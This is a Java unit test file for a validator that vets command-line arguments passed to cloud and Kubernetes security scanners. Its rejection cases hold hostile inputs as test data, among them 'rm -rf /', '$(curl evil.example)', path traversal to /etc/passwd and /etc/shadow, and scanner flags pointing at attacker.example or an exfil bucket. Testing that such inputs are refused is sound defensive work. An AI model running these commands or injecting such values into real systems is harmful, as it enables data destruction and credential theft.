package io.nubicustos.api.v1alpha1.scanjob;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Collections;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ScanArgsTest {

    @ParameterizedTest
    @ValueSource(strings = { "--compliance", "cis_2.0_aws", "--severity=critical,high", "--output-directory=/results",
            "--output=/results/prowler.ocsf.json", "-M", "json-ocsf", "--checks=s3_bucket_public_access", "--region=eu-west-1",
            "--timeout=30m", "user@example.com", "50%" })
    void plainArgumentsAndPathsUnderResultsAreAccepted(String arg) {
        assertThat(ScanArgs.problems(List.of(arg))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = { "; rm -rf /", "$(curl evil.example)", "`id`", "a|b", "a&&b", "x > /etc/passwd", "--x=$HOME",
            "with space", "tab\there", "new\nline", "quote'", "double\"", "back\\slash", "glob*", "{brace}", "<in", "nul\0byte",
            "ünïcode" })
    void shellMetacharactersAndOtherCharactersAreRejected(String arg) {
        assertThat(ScanArgs.problems(List.of(arg))).singleElement().asString()
                .startsWith("args[0] ").contains("character");
    }

    @ParameterizedTest
    @ValueSource(strings = { "/etc/shadow", "--output=/etc/cron.d/x", "--config=/var/run/secrets/kubernetes.io/token",
            "--out=/resultsX/file", "--a=/results/ok,/tmp/bad", "--x:/root" })
    void absolutePathsOutsideResultsAreRejected(String arg) {
        assertThat(ScanArgs.problems(List.of(arg))).singleElement().asString().contains("outside /results");
    }

    @ParameterizedTest
    @ValueSource(strings = { "..", "../x", "--output=/results/../etc/passwd", "/results/a/..", "--dir=..", "x,../y" })
    void parentDirectoriesAreRejected(String arg) {
        assertThat(ScanArgs.problems(List.of(arg))).singleElement().asString().contains("'..'");
    }

    @Test
    void sizeLimitsAreEnforced() {
        assertThat(ScanArgs.problems(List.of("a".repeat(ScanArgs.MAX_ARG_LENGTH)))).isEmpty();
        assertThat(ScanArgs.problems(List.of("a".repeat(ScanArgs.MAX_ARG_LENGTH + 1)))).singleElement().asString().contains("longer");
        assertThat(ScanArgs.problems(Collections.nCopies(ScanArgs.MAX_ARGS + 1, "-v"))).singleElement().asString()
                .contains("at most " + ScanArgs.MAX_ARGS);
        assertThat(ScanArgs.problems(List.of(""))).singleElement().asString().isEqualTo("args[0] is empty");
    }

    @Test
    void problemsNameThePositionButNeverRepeatTheValue() {
        String planted = "--token=s3cr3t-planted-value;";
        List<String> problems = ScanArgs.problems(List.of("--ok", planted));
        assertThat(problems).singleElement().asString().startsWith("args[1] ").doesNotContain("s3cr3t");
    }

    /** The issue's own attacks: each passes the character filter and is refused by the tool's flag allowlist. */
    @ParameterizedTest
    @org.junit.jupiter.params.provider.CsvSource(delimiter = ';', value = {
            "trivy;--server=attacker.example:4954",
            "trivy;--config=etc/passwd",
            "trivy;--severity|@/etc/shadow",
            "prowler;--output-bucket=exfil-bucket",
            "checkov;--bc-api-key=planted-key",
            "checkov;--external-checks-git=https://attacker.example/checks.git",
            "kubescape;--include-namespaces=production",
            "prowler;critical",
            "kubernetes;--verbose",
            "checkov;--compact=yes" })
    void flagsOutsideTheToolsAllowlistAreRefusedWithoutRepeatingThem(String tool, String joined) {
        List<String> args = List.of(joined.split("\\|"));
        List<String> problems = ScanArgs.problems(toolNamed(tool), args);
        assertThat(problems).isNotEmpty();
        for (String arg : args) {
            if (arg.length() > 3 && !arg.equals("--verbose") && !arg.equals("--severity")) {
                assertThat(String.join("\n", problems)).doesNotContain(arg);
            }
        }
    }

    @ParameterizedTest
    @org.junit.jupiter.params.provider.CsvSource(delimiter = ';', value = {
            "prowler;--severity|critical|high",
            "prowler;--checks=s3_bucket_public_access|--no-banner",
            "trivy;--scanners=vuln,misconfig|--skip-db-update=false",
            "checkov;--framework=terraform|--compact",
            "kube-bench;--targets=master,node",
            "kubescape;--exclude-namespaces=kube-system|--verbose" })
    void filteringFlagsTheToolAllowsPass(String tool, String joined) {
        assertThat(ScanArgs.problems(toolNamed(tool), List.of(joined.split("\\|")))).isEmpty();
    }

    private static Tool toolNamed(String name) {
        return java.util.Arrays.stream(Tool.values()).filter(t -> t.wireName().equals(name)).findFirst().orElseThrow();
    }
}
